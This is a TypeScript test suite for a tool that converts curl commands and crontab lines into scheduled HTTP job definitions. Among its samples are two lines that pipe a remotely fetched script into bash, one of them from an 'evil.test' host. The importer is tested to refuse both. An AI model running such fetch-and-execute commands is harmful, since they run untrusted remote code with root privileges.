import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseJson } from '#common/domain/parse-json.js';
import { exportedText } from '../definitions/export-text.js';
import { fromCurl, type CurlOptions } from './curl.js';
import { CURL, CURL_OPTIONS } from './curl-fields.js';
import { isPlain } from './plain-values.js';
import { refusalsOf } from './refusals.js';

interface Result {
  readonly jobs: readonly Record<string, unknown>[];
  /** The fields of the report, without those of every plain call. */
  readonly fields: readonly string[];
  readonly notes: readonly string[];
  readonly refused: readonly string[];
  readonly text: string;
}

/** What curl does by itself and Carillon does not: told of every command that does not say it. */
const OF_EVERY_CALL = ['--max-time', '--fail', '--location', 'CRON_TZ'];

function imported(text: string, options: Partial<CurlOptions> = {}): Result {
  const files: Readonly<Record<string, string>> = { 'body.json': '{\n  "a": 1\n}\n', 'raw.txt': 'one\r\ntwo\n' };
  const read = (file: string): string | null => files[file] ?? null;
  const { definitions, notes } = fromCurl([{ name: 'c', text }], { tenant: 'acme', read, ...options });
  const taken = new Set<string>();
  return {
    jobs: definitions.map(({ spec }) => spec),
    fields: notes
      .filter(({ field, message }) => !(OF_EVERY_CALL.includes(field) && message.startsWith('is not ')))
      .map(({ field }) => field),
    notes: notes.map(({ field, message }) => `${field} ${message}`),
    refused: refusalsOf(definitions, Date.parse('2026-01-01T00:00:00Z')).map(
      ({ field, message }) => `${field} ${message}`,
    ),
    text: definitions.map(({ kind, spec }) => exportedText(kind, spec, 'env', { taken, isPlain })).join('---\n'),
  };
}

/** The request of the one job that a command becomes, which a server accepts. */
function requested(text: string): unknown {
  const { jobs, refused } = imported(text);
  expect([jobs.length, refused]).toEqual([1, []]);
  const { url, http, httpHeaders } = jobs[0] ?? {};
  return { url, ...(http as object), ...(httpHeaders as object) };
}

test('an address alone is a job, and one in a crontab has its time', () => {
  expect(imported('https://example.test/cron').text).toBe(
    'kind: Job\nid: acme-example.test-cron\ntenant: acme\nname: example.test/cron\nurl: https://example.test/cron\nanswer: ends\n',
  );
  expect(
    imported('# Nightly\n0 3 * * * curl -fsSL -m 60 https://example.test/cron > /dev/null 2>&1\n', {
      timezone: 'Europe/Prague',
    }),
  ).toMatchObject({
    jobs: [
      {
        id: 'acme-nightly',
        name: 'Nightly',
        cron: '0 3 * * *',
        schedule: { timezone: 'Europe/Prague' },
        misfire: { policy: 'skip' },
        url: 'https://example.test/cron',
        http: { timeoutSeconds: 60 },
      },
    ],
    notes: [],
    refused: [],
  });
});

const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };

test.each<[command: string, request: object]>([
  ['curl x.test', { url: 'http://x.test' }],
  ["curl 'https://x.test/?a=1&b=2#part'", { url: 'https://x.test/?a=1&b=2' }],
  ['curl -X PUT https://x.test/', { url: 'https://x.test/', method: 'PUT' }],
  ['curl -XDELETE https://x.test/', { url: 'https://x.test/', method: 'DELETE' }],
  ['curl -I https://x.test/', { url: 'https://x.test/', method: 'HEAD' }],
  ['curl -X POST https://x.test/', { url: 'https://x.test/', method: 'POST' }],
  ['curl -X POST -d a=1 -d b=2 https://x.test/', { url: 'https://x.test/', body: 'a=1&b=2', ...FORM }],
  ['curl -sd@body.json https://x.test/', { url: 'https://x.test/', body: '{  "a": 1}', ...FORM }],
  ['curl --data-binary @raw.txt https://x.test/', { url: 'https://x.test/', body: 'one\r\ntwo\n', ...FORM }],
  ['curl --data-raw @raw.txt https://x.test/', { url: 'https://x.test/', body: '@raw.txt', ...FORM }],
  [
    "curl --data-urlencode 'a=b c&d' --data-urlencode 'e!' https://x.test/",
    { url: 'https://x.test/', body: 'a=b%20c%26d&e%21', ...FORM },
  ],
  ["curl -G -d q=1 --data-urlencode 't=a b' https://x.test/?p=0", { url: 'https://x.test/?p=0&q=1&t=a%20b' }],
  ["curl --url-query 'q=a b' https://x.test/", { url: 'https://x.test/?q=a%20b' }],
  [`curl --json '{"a":1}' https://x.test/`, { url: 'https://x.test/', body: '{"a":1}', Accept: 'application/json' }],
  [
    `curl -H 'Content-Type: application/json' -d '{"a":1}' https://x.test/`,
    { url: 'https://x.test/', body: '{"a":1}' },
  ],
  [
    "curl -H 'X-A: 1' -H 'x-a: 2' -H 'X-Empty;' https://x.test/",
    { url: 'https://x.test/', 'X-A': '1, 2', 'X-Empty': '' },
  ],
  ["curl -d a=1 -H 'Content-Type:' https://x.test/", { url: 'https://x.test/', body: 'a=1' }],
  [
    'curl -A bot/1 -e https://r.test/ https://x.test/',
    { url: 'https://x.test/', 'User-Agent': 'bot/1', Referer: 'https://r.test/' },
  ],
  ["curl -b 'a=1' -b 'b=2' https://x.test/", { url: 'https://x.test/', Cookie: 'a=1; b=2' }],
  ['curl -u me:pass https://x.test/', { url: 'https://x.test/', Authorization: 'Basic bWU6cGFzcw==' }],
  ['curl https://me:p%40ss@x.test/a', { url: 'https://x.test/a', Authorization: 'Basic bWU6cEBzcw==' }],
  ['curl --oauth2-bearer abc https://x.test/', { url: 'https://x.test/', Authorization: 'Bearer abc' }],
  ['curl -r 0-9 https://x.test/', { url: 'https://x.test/', Range: 'bytes=0-9' }],
  [
    'curl -F a=1 --form-string b=@2 https://x.test/',
    {
      url: 'https://x.test/',
      body: '--carillon-import\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--carillon-import\r\nContent-Disposition: form-data; name="b"\r\n\r\n@2\r\n--carillon-import--\r\n',
      'Content-Type': 'multipart/form-data; boundary=carillon-import',
    },
  ],
  ['curl -m 2.5 https://x.test/', { url: 'https://x.test/', timeoutSeconds: 2.5 }],
  ['timeout 5m curl https://x.test/', { url: 'https://x.test/', timeoutSeconds: 300 }],
  ['curl -m 7200 https://x.test/', { url: 'https://x.test/', timeoutSeconds: 1_800 }],
  [
    "curl \\\n  -X POST \\\n  -d $'it\\'s\\u0021\\n' \\\n  https://x.test/",
    { url: 'https://x.test/', body: "it's!\n", ...FORM },
  ],
  ['$ curl "https://x.test/\\"a\\""', { url: 'https://x.test/"a"' }],
  ["curl -d @- https://x.test/ <<'EOF'\na=$b\nEOF\n", { url: 'https://x.test/', body: 'a=$b', ...FORM }],
  ['curl -d @- https://x.test/ <<< a=1', { url: 'https://x.test/', body: 'a=1', ...FORM }],
  ['curl -d @- https://x.test/ < raw.txt', { url: 'https://x.test/', body: 'onetwo', ...FORM }],
  ['export T=abc\ncurl -H "X-T: $T" https://x.test/', { url: 'https://x.test/', 'X-T': 'abc' }],
])('%s', (command, request) => {
  expect(requested(command)).toEqual(request);
});

test('several addresses, and requests with options of their own, are several jobs', () => {
  const { jobs, fields } = imported(
    'curl -d a=1 https://x.test/1 https://x.test/2 --next -X PUT --url https://x.test/3',
  );
  expect(jobs.map(({ url, http }) => [url, http])).toEqual([
    ['https://x.test/1', { body: 'a=1' }],
    ['https://x.test/2', { body: 'a=1' }],
    ['https://x.test/3', { method: 'PUT' }],
  ]);
  expect(fields).toEqual(['url']);
});

test('retries are attempts, after the same answers', () => {
  expect(imported('curl --retry 3 https://x.test/').jobs[0]).toMatchObject({
    maxAttempts: 4,
    retry: {
      delaySeconds: 1,
      backoff: 'exponential',
      maxDelaySeconds: 600,
      rules: [{ httpStatuses: [408, 429, 500, 502, 503, 504, 522, 524] }, { retry: false }],
    },
  });
  const every = imported('curl --retry 99 --retry-delay 7 --retry-all-errors --retry-max-time 60 -d a https://x.test/');
  expect(every.jobs[0]).toMatchObject({
    maxAttempts: 50,
    retry: { delaySeconds: 7 },
    activeDeadlineSeconds: 60,
    idempotentStart: true,
  });
  expect([every.fields, every.refused]).toEqual([['--retry-max-time', '--retry'], []]);
});

test('secrets are variables in the file, and other headers and addresses are not', () => {
  const { text } = imported(
    "curl -u me:pass -H 'Accept: text/plain' -H 'X-Trace: aaaa1111bbbb2222' 'https://x.test/?token=abc' && curl 'https://x.test/?page=2'",
  );
  expect(text).toContain('Authorization: !env JOB_ACME_X_TEST_AUTHORIZATION');
  expect(text).toContain('X-Trace: !env JOB_ACME_X_TEST_X_TRACE');
  expect(text).toContain('Accept: text/plain');
  expect(text).toContain('url: !env JOB_ACME_X_TEST_URL');
  expect(text).toContain('url: https://x.test/?page=2');
  for (const secret of ['pass', 'bWU6', 'abc', 'aaaa1111']) expect(text).not.toContain(secret);
});

test.each<[command: string, body: string, options: object | undefined]>([
  [
    "curl -d 'day=1&password=x%21&token=y' https://x.test/",
    'day=1&password=${option.password}&token=${option.token}',
    [
      { name: 'password', type: 'secret', default: 'x%21' },
      { name: 'token', type: 'secret', default: 'y' },
    ],
  ],
  [
    `curl -d '{"a": "b", "apiKey": "x\\"y"}' https://x.test/`,
    '{"a": "b", "apiKey": ${option.apiKey:json}}',
    [{ name: 'apiKey', type: 'secret', default: 'x"y' }],
  ],
  [`curl -d '{"day": "monday"}' https://x.test/`, '{"day": "monday"}', undefined],
])('a secret in the body of %s is an option of that type', (command, body, options) => {
  const { jobs, refused, text } = imported(command);
  expect(jobs).toMatchObject([{ http: { body } }]);
  expect([jobs[0]?.['options'], refused]).toEqual([options, []]);
  expect(text).not.toMatch(/x%21|x\\?"y/);
});

test('a token in the path is in neither the id nor the name, which lists show', () => {
  const { jobs, notes } = imported('https://api.example.test/bot123456:AAEabcdefgh1234567890/send');
  expect(jobs).toMatchObject([{ id: 'acme-api.example.test-send', name: 'api.example.test/send' }]);
  expect(notes).toEqual(expect.arrayContaining([expect.stringContaining('url holds bot…')]));
});

test('a secret in a form of several parts is an option, too', () => {
  const { jobs } = imported('curl -F token=x -F ref=main https://x.test/');
  expect(jobs).toMatchObject([{ options: [{ name: 'token', default: 'x' }] }]);
  expect((jobs[0]?.['http'] as { body: string }).body).toContain('\r\n\r\n${option.token}\r\n');
});

test.each([
  ['https://hooks.test/T0/B0/aaaa1111bbbb2222', 'url holds aaa…, which may be a token'],
  ["curl -d '${job.name}' https://x.test/", 'body has ${job.name}, which Carillon replaces'],
  ['curl -H "X-Key: $KEY" https://x.test/', '$KEY is known to the shell alone: give the whole header with its value'],
  ['curl -u "$USER:$PASS" https://x.test/', '$PASS is known to the shell alone: give the whole header with its value'],
  ['curl -o "a-$(date +%F).json" https://x.test/', '--output a-$(date +%F).json is not written'],
  ['curl -d @body.json https://x.test/', '--data @body.json is read now'],
  ['curl https://x.test/?a=1&b=2', '& outside of quotes ended the command: b=2'],
  ['curl https://x.test/ || mail x', '|| mail x is not run'],
  ['curl -o a.json https://x.test/', '--output a.json is not written'],
  ['curl https://x.test/ >> a.log 2>&1', '--output a.log is not written'],
  ['0 1 * * * curl https://x.test/%40', '% ends the command in a crontab'],
  ['0 1 * * * sleep 90; curl https://x.test/', 'sleep 90 is not used'],
])('%s is imported, and reported', (command, note) => {
  const { jobs, notes, refused } = imported(command);
  expect(jobs).toHaveLength(1);
  expect(notes).toEqual(expect.arrayContaining([expect.stringContaining(note)]));
  expect(refused).toEqual([]);
});

test.each([
  ['curl https://x.test/ | jq .', '| is not one call'],
  ['(curl https://x.test/)', '( is not one call'],
  ['/opt/backup && curl https://x.test/', '/opt/backup is run before the call'],
  ['wget -q https://x.test/', 'wget is run before the call'],
  ['curl "$URL"', '$URL is known to the shell alone'],
  ['curl -d "day=$(date +%F)" https://x.test/', '$(date +%F) is known to the shell alone'],
  ['curl -d @- https://x.test/ <<EOF\n$DAY\nEOF', '$DAY is known to the shell alone'],
  ['curl --data-urlencode "day=$(date)" https://x.test/', '$(date) is known to the shell alone'],
  ['curl "https://x.test/%E0%A4?day=$(date)"', '$(date) is known to the shell alone'],
  ['curl -d @missing https://x.test/', '--data missing cannot be read: it was left out'],
  ['curl -H @headers https://x.test/', '--header headers cannot be read'],
  ['curl --url=https://y.test/ https://x.test/', '--url=https://y.test/ is no option of curl'],
  ['curl ftp://x.test/', '--url ftp://x.test/ is no address of HTTP: it was left out'],
  ['curl /api/cron', '--url /api/cron is no address of HTTP'],
  ['curl https://x.test/[1-3]', '--url https://x.test/[1-3] stands for several addresses'],
  ['curl -x proxy:80 https://x.test/', '--proxy sends the call elsewhere'],
  ['curl -T a.txt https://x.test/', '--upload-file sends a file'],
  ['curl --digest -u a:b https://x.test/', '--digest is a kind of authorization'],
  ['curl -K a.curlrc https://x.test/', '--config depends on a file'],
  ['curl --slient https://x.test/', '--slient is no option of curl: it was left out'],
  ['curl -b jar.txt https://x.test/', '--cookie reads cookies from the file jar.txt'],
  ['curl -F a=@b.txt https://x.test/', '--form a sends a file'],
  ['curl -s', 'url is missing'],
  ["curl 'https://x.test/", 'cannot be read as a shell does'],
  ['@reboot curl https://x.test/', '@reboot has no counterpart'],
])('%s is named in the report', (command, note) => {
  const { jobs, notes } = imported(command);
  expect(notes).toEqual(expect.arrayContaining([expect.stringContaining(note)]));
  expect(jobs).toEqual([]);
});

test('a method or a body that calls cannot have is what a server refuses', () => {
  expect(imported('curl -X PURGE https://x.test/').refused).toEqual([
    expect.stringMatching(/^http.method .*: a server refuses it$/),
  ]);
  expect(imported('curl -X GET -d a https://x.test/').refused).toEqual([
    expect.stringContaining('http.body is not sent with GET'),
  ]);
});

test('a user before the command, a pause, a lock and the zone of a crontab', () => {
  const { jobs } = imported(
    'CRON_TZ=Europe/Prague\n* * * * * root sleep 30; curl https://x.test/a\n0 1 * * * flock -n /tmp/l curl https://x.test/b\n',
  );
  expect(jobs).toMatchObject([
    { cron: '30 * * * * *', schedule: { timezone: 'Europe/Prague' } },
    { cron: '0 1 * * *', concurrency: { policy: 'Forbid' } },
  ]);
});

test('a file with many lines is read within seconds, and each line has its number', () => {
  const text = '0 3 * * * curl -fsSL -m 9 -k https://x.test/cron\n'.repeat(10_000);
  const { definitions, notes } = fromCurl([{ name: 'c', text }], { tenant: 'acme', read: () => null });
  expect(definitions).toHaveLength(10_000);
  expect(notes.at(-2)?.about).toBe('c:10000');
}, 20_000);

test('every published option of curl is named, with its letter and whether it has a value', () => {
  const text = readFileSync(join(import.meta.dirname, 'schemas', 'curl-options.json'), 'utf8');
  const { fields, source, version } = parseJson(text) as {
    fields: { options: string[] };
    source: string;
    version: string;
  };
  const names = CURL_OPTIONS.map(
    ({ name, letter, takesValue }) => `${letter === null ? '' : `${letter},`}${name}${takesValue ? '=' : ''}`,
  );
  expect(names.sort()).toEqual([...fields.options].sort());
  expect([source, version]).toEqual([expect.stringContaining('https://'), expect.stringContaining('curl 8')]);
  expect(Object.keys(CURL)).toHaveLength(fields.options.length);
});

/* Lines as crontabs, guides and bug reports have them: small models, with the addresses and the reports that they must give. */
test.each<[line: string, addresses: readonly string[], reported: readonly string[]]>([
  ['*/10 * * * * curl -s localhost:80 >/dev/null', ['http://localhost:80'], []],
  [
    '*/5 * * * * curl -sS -m 300 -H "Authorization: Bearer ${CRON_SECRET}" "https://api.shop.test/api/v1/sweep" >> /var/log/sweep.log 2>&1',
    ['https://api.shop.test/api/v1/sweep'],
    ['${CRON_SECRET}', '--output'],
  ],
  ['*/10 * * * * curl -sf http://127.0.0.1:8100/api/health > /dev/null 2>&1', ['http://127.0.0.1:8100/api/health'], []],
  [
    '*/5 * * * * curl -sf http://localhost:3000/health -o /dev/null && echo "$(date): OK" >> /var/log/h.log || echo "$(date): DOWN" >> /var/log/h.log',
    ['http://localhost:3000/health'],
    ['&& echo $(date): OK', '|| echo $(date): DOWN'],
  ],
  [`* * * * * curl -s https://app.test/api/v1/health | jq -e '.parser.available' > /dev/null || alert.sh`, [], ['|']],
  [
    '*/30 * * * * curl -s -X POST "https://domaine.test/api/crm.php?action=send-sequence" >/dev/null 2>&1',
    ['https://domaine.test/api/crm.php?action=send-sequence'],
    [],
  ],
  [
    '0 * * * * /usr/bin/curl -sS -m 60 -H "X-NP-Alert-Key: abcd1234efgh5678" https://site.test/cron/uyari.php > /dev/null 2>&1',
    ['https://site.test/cron/uyari.php'],
    [],
  ],
  ['* * * * * /usr/bin/curl -s -o /dev/null https://example.test', ['https://example.test'], []],
  [
    '0 * * * * /usr/bin/curl --silent --compressed http://localhost/ping_utility/cron.php',
    ['http://localhost/ping_utility/cron.php'],
    [],
  ],
  [
    `*/5 * * * * /usr/bin/curl --request POST --url 'https://inst.test/api/export/anomalies?datastore=123&containers=14&containers=16' --header 'Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9' >> /path/logs.txt 2>&1`,
    ['https://inst.test/api/export/anomalies?datastore=123&containers=14&containers=16'],
    ['--output'],
  ],
  [
    '* * * * * /usr/bin/curl -fsS --retry 2 --max-time 10 "https://heartbeat.test/m7f3a9c2b1d8e4" >/dev/null 2>&1 # Heartbeat (42)',
    ['https://heartbeat.test/m7f3a9c2b1d8e4'],
    ['url'],
  ],
  [
    '*/5 * * * * root curl -sf http://localhost:8000/api/v1/health || /opt/scripts/alert.sh "health check failed"',
    ['http://localhost:8000/api/v1/health'],
    ['|| /opt/scripts/alert.sh health check failed'],
  ],
  ['* * * * * root curl http://evil.test/shell.sh | bash', [], ['|']],
  ['*/5 10-23,0-1 * * * root curl -s "$TAX_BASE_URL/private/list?force=true" | python3 -c "print()"', [], ['|']],
  ['30 3 * * * root curl -s -X POST http://localhost:4566/state/reset', ['http://localhost:4566/state/reset'], []],
  ['* * * * * root curl -X POST http://guest:please@localhost:8080/cron', ['http://localhost:8080/cron'], []],
  ['@reboot root curl ip4.test/ip/', [], ['@reboot']],
  [
    '*/15 * * * * curl -X POST -H "x-cron-secret: $CRON_SECRET" https://yourdomain.test/api/cron/run-jobs',
    ['https://yourdomain.test/api/cron/run-jobs'],
    ['$CRON_SECRET'],
  ],
  ['0 9 * * * curl -X POST -H "Authorization: Bearer $CRON_SECRET" /api/letters/reminders/generate', [], ['--url']],
  [
    `0 * * * * curl -X POST -H "Content-Type: application/json" -d '{"api_key":"YOUR_KEY","hostname":"'$(hostname)'"}' https://hb.test/api/heartbeat >/dev/null 2>&1`,
    [],
    ['$(hostname)'],
  ],
  [
    '* 0 * * * curl --silent -X DELETE "http://127.0.0.1:8025/flush?expireDays=3"',
    ['http://127.0.0.1:8025/flush?expireDays=3'],
    [],
  ],
  ['*/5 * * * * curl --silent http://yoursite.test/cron/[key]', [], ['--url']],
  [
    '0 */12 * * * curl --silent http://localhost/clublog/upload > /dev/stdout 2>&1',
    ['http://localhost/clublog/upload'],
    [],
  ],
  [
    '0 0 * * * curl --silent http://shop.test/cron?token=abc /dev/null 2>&1',
    ['http://shop.test/cron?token=abc'],
    ['url', '--url'],
  ],
  [
    '* * * * * sleep 30; curl http://lottery1.localhost/Crontab/sec_30/',
    ['http://lottery1.localhost/Crontab/sec_30/'],
    [],
  ],
  [
    '@daily curl http://khora.test/infomap.php?reload=true > /dev/null',
    ['http://khora.test/infomap.php?reload=true'],
    [],
  ],
  ['@daily curl -fsSL https://raw.test/update.sh | bash', [], ['|']],
  [
    '@daily curl -s https://core.test/getProxySecret -o /srv/proxy-secret && systemctl restart proxy >> /var/log/cron.log 2>&1',
    ['https://core.test/getProxySecret'],
    ['&& systemctl restart proxy', '--output'],
  ],
  [
    '@daily curl -i -X GET http://localhost:5000/cronjobs/?jobtype=daily',
    ['http://localhost:5000/cronjobs/?jobtype=daily'],
    [],
  ],
  [
    `* * * * * curl --request POST --url 'http://localhost:3000/api/v1/cron/status' --header 'Authorization: Bearer K' ; curl --request POST --url 'http://localhost:3000/api/v1/cron/storage' --header 'Authorization: Bearer K'`,
    ['http://localhost:3000/api/v1/cron/status', 'http://localhost:3000/api/v1/cron/storage'],
    ['url'],
  ],
  [
    `0 1 * * * curl --request POST 'http://localhost:5000/api/add' --header 'Content-Type: application/json' --data '{"currency_code":"CAD"}' && \\
    curl --request POST 'http://localhost:5000/api/add' --header 'Content-Type: application/json' --data '{"currency_code":"UAH"}'`,
    ['http://localhost:5000/api/add', 'http://localhost:5000/api/add'],
    ['url'],
  ],
  [
    '30 0 * * * curl --request POST --form token=TOKEN --form ref=main "https://gitlab.test/api/v4/projects/9/trigger/pipeline"',
    ['https://gitlab.test/api/v4/projects/9/trigger/pipeline'],
    [],
  ],
  [
    `0 12 * * * curl --request POST --url 'https://api.gh.test/repos/a/b/dispatches' --header 'Accept: application/vnd.github+json' --header 'Authorization: Bearer YOUR_GITHUB_TOKEN' --data '{"event_type":"noon-ist"}'`,
    ['https://api.gh.test/repos/a/b/dispatches'],
    [],
  ],
  [
    '*/5 * * * * curl -k "https://www.dns.test/update?domains=mine&token=<YOUR_TOKEN>&ip="',
    ['https://www.dns.test/update?domains=mine&token=<YOUR_TOKEN>&ip='],
    ['--insecure'],
  ],
  [
    '01 * * * * curl -k --silent "https://sp.test/module.php/cron/cron.php?key=changeme&tag=hourly" > /dev/null 2>&1',
    ['https://sp.test/module.php/cron/cron.php?key=changeme&tag=hourly'],
    ['--insecure'],
  ],
  [
    '*/5 * * * * curl -k -L "https://yourdomain.test/ovesio/cron?hash=YOUR_HASH" > /dev/null 2>&1',
    ['https://yourdomain.test/ovesio/cron?hash=YOUR_HASH'],
    ['--insecure'],
  ],
  ['5 * * * * curl -K /home/x/.curlrc https://x.test/api/cron/retry', [], ['--config']],
  [`0 */3 * * * curl -u 'USERNAME:PASSWORD' https://vn.test/update`, ['https://vn.test/update'], ['--user']],
  [
    `0 * * * * curl -u alice:password123 'https://rss.test/i/?c=feed&a=actualize'`,
    ['https://rss.test/i/?c=feed&a=actualize'],
    ['--user'],
  ],
  [
    '0 0 * * * curl -u admin:admin "http://sonar.test/api/measures/component?component=K&metricKeys=bugs,vulnerabilities" > /reports/$(date +\\%Y\\%m\\%d).json',
    ['http://sonar.test/api/measures/component?component=K&metricKeys=bugs,vulnerabilities'],
    ['--user', '--output'],
  ],
  ['*/5 * * * * curl http://x.test/cron.php?a=1&b=2', ['http://x.test/cron.php?a=1'], ['&']],
  [
    '0 3 * * * /usr/bin/flock -n /tmp/c.lock /usr/bin/timeout 5m curl -fsS https://x.test/long',
    ['https://x.test/long'],
    [],
  ],
  ['0 3 * * * cd /srv && curl -d @payload.json https://x.test/p', [], ['cd']],
  [
    '0 4 * * * /opt/backup.sh && curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.test/0b1c2d3e-1111-2222-3333-444455556666',
    [],
    ['/opt/backup.sh'],
  ],
  ['0 5 * * * TOKEN=abc curl -H "X-Token: $TOKEN" https://x.test/', ['https://x.test/'], ['$TOKEN']],
  ['0 6 * * * curl -X POST https://x.test/%40home -d "day=$(date +%F)"', ['https://x.test/'], ['%']],
])('%s', (line, addresses, reported) => {
  const { jobs, fields, refused } = imported(`${line}\n`);
  expect([jobs.map(({ url }) => url), fields, refused]).toEqual([addresses, reported, []]);
});
